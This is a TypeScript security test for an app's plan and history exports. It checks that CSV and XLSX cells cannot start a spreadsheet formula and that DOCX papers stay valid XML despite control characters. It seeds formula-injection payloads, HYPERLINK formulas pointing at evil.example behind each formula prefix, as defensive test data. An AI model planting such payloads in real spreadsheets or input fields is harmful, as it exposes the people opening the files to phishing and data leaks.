/**
 * Proves the officers' downloads cannot carry an attack in what people typed: in the CSV and XLSX
 * exports (plan, history) no text cell starts with a formula prefix (= + - @ tab CR, nor their
 * full-width forms, which Excel in East Asian locales reads as the same), each shows as typed
 * behind one apostrophe; and the DOCX papers (board paper, Equality Framework pack) built from
 * titles and updates full of control characters, lone surrogates and U+FFFE are valid UTF-8, valid
 * XML in every part (parsed strictly), and read as typed less what XML cannot hold.
 */
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { XMLValidator } from 'fast-xml-parser';
import JSZip from 'jszip';
import type { Person } from '../../core/model';
import { fixedClock } from '../../core/ports/clock';
import { SqlitePlanStore } from '../../core/store/sqlite/sqlite-plan-store';
import { demoDirectory } from '../../bot/directory/demo-directory';
import type { ApiRoute } from '../../tab/api/api-route';
import { tabRoutes } from '../../tab/api/tab-routes';
import { callRoute } from '../api/support/call-route';
import { as, testAuthorize } from '../api/support/test-callers';
import { taskInput } from '../support/builders';

const NOW = new Date('2026-11-22T10:00:00Z');
const officer: Person = { aadObjectId: 'aad-officer', displayName: 'Olu Officer', email: 'olu@example.gov.uk' };
/** What a spreadsheet may run as a formula at the start of a cell: ASCII, and full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20). */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const STARTS_A_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const payload = (prefix: string, field: string) => `${prefix}HYPERLINK("http://evil.example/?${field}","Click here")`;

/** Every character XML 1.0 cannot hold that a person might paste: C0 controls but tab, LF and CR; lone surrogates; U+FFFE and U+FFFF. */
const CONTROLS = [...Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).filter((c) => !'\t\n\r'.includes(c)), '\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uFFFE', '\uFFFF'];
const garbled = (word: string) => `${word}:${CONTROLS.map((c, i) => `${c}${i % 10}`).join('')}:end`;
const readable = (word: string) => `${word}:${CONTROLS.map((_, i) => `${i % 10}`).join('')}:end`;
const XML_ILLEGAL = /[^\x09\x0A\x0D\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

async function routesWith(seed: (store: SqlitePlanStore) => Promise<void>): Promise<{ routes: ApiRoute[]; store: SqlitePlanStore }> {
  const store = SqlitePlanStore.open(':memory:');
  await seed(store);
  const routes = tabRoutes({ store, clock: fixedClock(NOW), authorize: testAuthorize({ officer: { person: officer, officer: true } }), directory: demoDirectory() });
  return { routes, store };
}

async function download(routes: ApiRoute[], path: string): Promise<Buffer> {
  const res = await callRoute(routes, 'GET', path, { headers: as('officer') });
  assert.ok('file' in res, `${path}: a file, not ${res.status} ${JSON.stringify('body' in res ? res.body : '')}`);
  return Buffer.from(res.file.bytes);
}

describe('security: formula prefixes in every exported text field', () => {
  let routes: ApiRoute[];
  let store: SqlitePlanStore;
  /** Every hostile value written, by the column it should come out in. */
  const written = new Map<string, string[]>();
  const wrote = (column: string, value: string) => (written.set(column, [...(written.get(column) ?? []), value]), value);

  before(async () => {
    ({ routes, store } = await routesWith(async (s) => {
      for (const [i, p] of PREFIXES.entries()) {
        const person = (role: string): Person => ({ aadObjectId: `aad-${role}-${i}`, displayName: payload(p, role), email: `${role}${i}@example.gov.uk` });
        const objectiveRef = wrote('Objective', `${p}O${i}`);
        await s.createObjective({ ref: objectiveRef, title: wrote('Objective title', payload(p, 'objective')) });
        const owner = person('owner');
        wrote('Owners', owner.displayName);
        const ao = person('officer');
        wrote('Accountable officer', ao.displayName);
        wrote('Latest update by', owner.displayName);
        const task = await s.createTask(
          taskInput({
            ref: wrote('Ref', `${p}T${i}`),
            objectiveRef,
            title: wrote('Task', payload(p, 'title')),
            indicator: wrote('Indicator', payload(p, 'indicator')),
            dueText: wrote('Due (as written)', payload(p, 'due')),
            owners: [owner],
            accountableOfficer: ao,
            latestUpdate: wrote('Latest update', payload(p, 'update')),
            latestUpdateAt: '2026-11-20T10:00:00.000Z',
            latestUpdateBy: owner,
          }),
        );
        await s.recordChange({
          key: `change-${i}`,
          subject: 'task',
          subjectId: task.id,
          subjectRef: wrote('History Ref', task.ref),
          action: 'edited',
          changedBy: { ...officer, displayName: wrote('By', payload(p, 'by')) },
          changedAt: `2026-11-2${i % 2}T09:00:00.000Z`,
          changes: [{ field: 'title', label: 'Title', from: wrote('From', payload(p, 'from')), to: wrote('To', payload(p, 'to')) }],
          reason: wrote('Reason', payload(p, 'reason')),
        });
      }
    }));
  });
  after(() => store.close());

  const header = (name: string) => (name === 'History Ref' ? 'Ref' : name);
  /**
   * Each written value came out in its column (behind the apostrophe, or with leading whitespace
   * trimmed by the plan view: harmless either way, and every cell was checked for a formula start).
   * XML turns a carriage return into a line feed.
   */
  const assertExported = (cells: Map<string, string[]>, columns: string[], what: string) => {
    const norm = (s: string) => s.replace(/\r/g, '\n').trim();
    for (const column of columns) {
      const out = (cells.get(header(column)) ?? []).map((c) => norm(c.replace(/^'/, '')));
      for (const value of written.get(column) ?? []) assert.ok(out.includes(norm(value)), `${what} ${column}: ${JSON.stringify(value)} is there (got ${JSON.stringify(out.slice(0, 3))})`);
    }
  };
  const csvColumns = (bytes: Buffer): Map<string, string[]> => {
    const [head, ...rows] = parse(bytes, { bom: true, relax_column_count: false }) as string[][];
    for (const row of rows) for (const [i, cell] of row.entries()) assert.doesNotMatch(cell, STARTS_A_FORMULA, `CSV ${head![i]}: ${JSON.stringify(cell)}`);
    return new Map(head!.map((h, i) => [h, rows.map((r) => r[i]!)]));
  };

  it('the plan CSV: every text column', async () => {
    const cells = csvColumns(await download(routes, '/api/export/plan.csv'));
    assertExported(cells, ['Objective', 'Objective title', 'Indicator', 'Ref', 'Task', 'Owners', 'Accountable officer', 'Due (as written)', 'Latest update', 'Latest update by'], 'plan CSV');
  });

  it('the history CSV: every text column', async () => {
    const cells = csvColumns(await download(routes, '/api/export/history.csv'));
    assertExported(cells, ['History Ref', 'By', 'From', 'To', 'Reason'], 'history CSV');
  });

  it('the XLSX: both sheets, no formula cells, no text cell starting a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(routes, '/api/export/plan.xlsx')) as unknown as ArrayBuffer);
    assert.deepEqual(workbook.worksheets.map((w) => w.name), ['Action plan', 'Change history']);
    for (const sheet of workbook.worksheets) {
      const heads = (sheet.getRow(1).values as unknown[]).map(String);
      const cells = new Map<string, string[]>();
      sheet.eachRow((row, n) => {
        if (n === 1) return;
        row.eachCell((cell, col) => {
          assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${sheet.name} ${cell.address} is a formula`);
          if (typeof cell.value !== 'string') return;
          assert.doesNotMatch(cell.value, STARTS_A_FORMULA, `${sheet.name} ${cell.address}: ${JSON.stringify(cell.value)}`);
          cells.set(heads[col]!, [...(cells.get(heads[col]!) ?? []), cell.value]);
        });
      });
      const columns = sheet.name === 'Action plan' ? ['Objective', 'Objective title', 'Indicator', 'Ref', 'Task', 'Owners', 'Accountable officer', 'Due (as written)', 'Latest update', 'Latest update by'] : ['History Ref', 'By', 'From', 'To', 'Reason'];
      assertExported(cells, columns, sheet.name);
    }
  });
});

describe('security: control characters in DOCX titles and updates', () => {
  let routes: ApiRoute[];
  let store: SqlitePlanStore;

  before(async () => {
    ({ routes, store } = await routesWith(async (s) => {
      await s.createObjective({ ref: '1', title: garbled('Objective') });
      const owner: Person = { aadObjectId: 'aad-owner', displayName: garbled('Owner'), email: 'owner@example.gov.uk' };
      for (const [i, status] of (['Open', 'Complete'] as const).entries()) {
        await s.createTask(
          taskInput({
            ref: `1.${i + 1}`,
            title: garbled(`Title${i}`),
            indicator: garbled(`Indicator${i}`),
            status,
            rag: status === 'Complete' ? 'Complete' : 'Red',
            dueDate: '2026-10-01',
            dueText: garbled(`Due${i}`),
            owners: [owner],
            latestUpdate: garbled(`Update${i}`),
            latestUpdateAt: '2026-11-20T10:00:00.000Z',
            latestUpdateBy: owner,
            supportNeeded: garbled(`Support${i}`),
            risks: garbled(`Risks${i}`),
            eflg: [{ module: 1, criterion: '1.1', level: 'Developing' }],
          }),
        );
      }
    }));
  });
  after(() => store.close());

  for (const [paper, path, words] of [
    ['the board paper', '/api/export/board-report.docx', ['Objective', 'Title0', 'Title1', 'Update0', 'Support0', 'Owner']],
    ['the Equality Framework pack', '/api/export/eflg-pack.docx', ['Title0']],
  ] as const) {
    it(`${paper}: every part valid UTF-8 and well-formed XML, the text as typed less what XML cannot hold`, async () => {
      const zip = await JSZip.loadAsync(await download(routes, path));
      const parts = Object.values(zip.files).filter((f) => !f.dir && /\.(xml|rels)$/.test(f.name));
      assert.ok(parts.some((f) => f.name === 'word/document.xml'), 'a Word document');
      let documentText = '';
      for (const part of parts) {
        const bytes = await part.async('uint8array');
        const xml = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
        assert.equal(XMLValidator.validate(xml), true, `${part.name} is well-formed XML`);
        const illegal = XML_ILLEGAL.exec(xml);
        assert.equal(illegal, null, `${part.name} holds U+${illegal?.[0].codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')}, which XML 1.0 does not allow`);
        if (part.name === 'word/document.xml') documentText = [...xml.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]).join('');
      }
      assert.doesNotMatch(documentText, /\uFFFD/, 'no replacement characters: nothing was mangled on the way to UTF-8');
      for (const word of words) assert.ok(documentText.includes(readable(word)), `${paper} says "${readable(word)}"`);
    });
  }
});
